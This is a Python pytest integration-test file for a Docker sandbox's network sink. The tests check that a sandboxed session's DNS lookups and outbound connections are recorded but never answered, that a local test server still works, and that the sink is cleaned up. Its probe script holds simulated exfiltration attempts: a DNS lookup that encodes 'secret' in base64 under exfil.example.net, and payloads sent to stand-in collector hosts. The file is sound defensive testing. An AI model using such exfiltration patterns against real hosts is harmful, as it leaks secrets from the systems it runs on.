"""The network sink against a real engine: a session in the sink's namespace has its lookups
and connections recorded and answered by nothing, while a test's own local server still
works, and the sink is gone afterwards.

Needs a running Docker engine and the python and node runner images (``make runner-images``).
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from bot.errors import SandboxError
from bot.sandbox.base import Limits
from bot.sandbox.docker import RUNNER_IMAGE, RUNNER_IMAGES, DockerSandbox
from bot.sandbox.netsink import (
    SINK_BASE_LABEL,
    SINK_BUILD_LABEL,
    SINK_DIR,
    SINK_IMAGE_LABEL,
    SINK_LABEL,
    Attempt,
    sink_image,
)
from tests.integration.docker_engine import docker_engine, tar_of

pytestmark = pytest.mark.docker

TEST_LABEL = "forgebot.test"
LABELS = {TEST_LABEL: "test_netsink", "forgebot.job": "7"}

PROBE = r"""
import socket, threading, http.server, urllib.request

def attempt(host, port, data):
    try:
        with socket.create_connection((host, port), timeout=5) as conn:
            conn.sendall(data)
            conn.settimeout(5)
            print(host, port, "answered", len(conn.recv(100)))
    except OSError as exc:
        print(host, port, "failed", type(exc).__name__)

attempt("collector.example.com", 443, b"x" * 517)
attempt("api.example.org", 80, b"GET /k HTTP/1.1\r\nHost: api.example.org\r\n\r\n")
attempt("203.0.113.9", 443, b"direct")
try:
    socket.getaddrinfo("c2VjcmV0.exfil.example.net", 53)
except OSError:
    pass

server = http.server.HTTPServer(("127.0.0.1", 8080), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print("local server", urllib.request.urlopen("http://127.0.0.1:8080/").status)
"""


@pytest.fixture(scope="module")
def sandbox() -> Iterator[DockerSandbox]:
    with docker_engine([RUNNER_IMAGE, RUNNER_IMAGES["node"].ref],
                       f"{TEST_LABEL}=test_netsink") as client:
        yield DockerSandbox(client)


def test_attempts_are_recorded_and_answered_by_nothing(sandbox: DockerSandbox) -> None:
    session = sandbox.start_observed(RUNNER_IMAGE, Limits(pids=128), LABELS, RUNNER_IMAGE)
    try:
        result = session.run(["python3", "-c", PROBE], 60)
    finally:
        session.close()

    out = result.stdout.splitlines()
    assert "collector.example.com 443 answered 0" in out
    assert "api.example.org 80 answered 0" in out
    assert "203.0.113.9 443 failed OSError" in out  # no route to an address: not recorded
    assert "local server 200" in out  # a test's own server on a high port is untouched
    names = {a.name for a in session.attempts if a.kind == "dns"}
    assert {"collector.example.com", "api.example.org", "c2vjcmv0.exfil.example.net"} <= names
    assert Attempt("tcp", "", 443, 517) in session.attempts
    request = b"GET /k HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
    [plain] = [a for a in session.attempts if a == Attempt("tcp", "api.example.org", 80,
                                                             len(request))]
    assert plain.head == request  # kept for the canary search
    assert not any("203.0.113.9" in a.name for a in session.attempts)


def test_the_sink_is_removed_and_cannot_be_touched_from_the_session(
        sandbox: DockerSandbox) -> None:
    session = sandbox.start_observed(RUNNER_IMAGE, Limits(pids=128), LABELS, RUNNER_IMAGE)
    try:
        seen = session.run(["sh", "-c", "ls /opt; ps -e -o comm= | sort -u; id -u"], 30)
    finally:
        session.close()

    assert "forgebot-sink" not in seen.stdout and "python3" not in seen.stdout
    assert seen.stdout.split()[-1] != "0"
    left = sandbox.client.containers.list(all=True, filters={"label": SINK_LABEL})
    assert [c for c in left if c.labels.get(TEST_LABEL) == "test_netsink"] == []


def test_a_sink_that_cannot_start_leaves_nothing(sandbox: DockerSandbox) -> None:
    with pytest.raises(SandboxError):
        sandbox.start_observed(RUNNER_IMAGE, Limits(), LABELS, "forgebot-no-such-image:0")
    left = sandbox.client.containers.list(all=True, filters={"label": SINK_LABEL})
    assert [c for c in left if c.labels.get(TEST_LABEL) == "test_netsink"] == []



def test_the_sink_image_is_built_once_with_its_byte_code(sandbox: DockerSandbox) -> None:
    client = sandbox.client
    tag = sink_image(client, RUNNER_IMAGE)
    built = client.images.get(tag)

    assert sink_image(client, RUNNER_IMAGE) == tag
    assert client.images.get(tag).id == built.id  # reused, not built again
    assert built.labels[SINK_IMAGE_LABEL] == tag.split(":")[1]
    listing = client.containers.run(
        tag, ["sh", "-c", f"ls {SINK_DIR}/dnslib/__pycache__ /usr/lib/python3*/__pycache__"],
        network_mode="none", remove=True).decode()
    assert "dns.cpython-" in listing and "socketserver.cpython-" in listing
    builders = client.containers.list(all=True, filters={"label": SINK_BUILD_LABEL})
    assert builders == []  # the build container is gone


def test_a_runner_image_without_python_gives_a_clear_error(sandbox: DockerSandbox) -> None:
    client = sandbox.client
    empty = "forgebot-test-no-python:1"
    client.api.import_image_from_data(tar_of({"README": "no python here\n"}),
                                      repository="forgebot-test-no-python", tag="1")
    try:
        with pytest.raises(SandboxError, match="network sink's image"):
            sink_image(client, empty)
        assert client.containers.list(all=True, filters={"label": SINK_BUILD_LABEL}) == []
        assert client.images.list(filters={"label": f"{SINK_BASE_LABEL}={empty}"}) == []
    finally:
        client.images.remove(empty, force=True)


def test_only_older_sinks_of_the_same_runner_image_are_removed(
        sandbox: DockerSandbox) -> None:
    client = sandbox.client
    tag = sink_image(client, RUNNER_IMAGE)
    other = sink_image(client, RUNNER_IMAGES["node"].ref)  # node's image has python3 too
    try:
        assert client.images.get(tag).labels[SINK_BASE_LABEL] == RUNNER_IMAGE
        assert sink_image(client, RUNNER_IMAGE) == tag  # still there
    finally:
        client.images.remove(other, force=True)


def test_a_new_build_removes_the_older_sink_of_its_runner_image(
        sandbox: DockerSandbox) -> None:
    client = sandbox.client
    runner = "forgebot-test-sink-base:1"  # a name of its own: other tests' sinks stay alone
    client.images.get(RUNNER_IMAGE).tag(runner)
    older = "forgebot-sink:0000000000000000"
    holder = client.containers.create(RUNNER_IMAGE, ["true"], network_mode="none",
                                      labels={TEST_LABEL: "test_netsink"})
    holder.commit(repository="forgebot-sink", tag="0000000000000000", conf={
        "Labels": {SINK_IMAGE_LABEL: "0000000000000000", SINK_BASE_LABEL: runner}})
    holder.remove(force=True)
    try:
        tag = sink_image(client, runner)

        assert tag != older and client.images.get(tag).labels[SINK_BASE_LABEL] == runner
        assert older not in [t for image in client.images.list("forgebot-sink")
                             for t in image.tags]
        assert sink_image(client, RUNNER_IMAGE) != tag  # the python runner's own sink stays
    finally:
        for image in client.images.list(filters={"label": f"{SINK_BASE_LABEL}={runner}"}):
            client.images.remove(image.id, force=True)
        client.images.remove(runner)
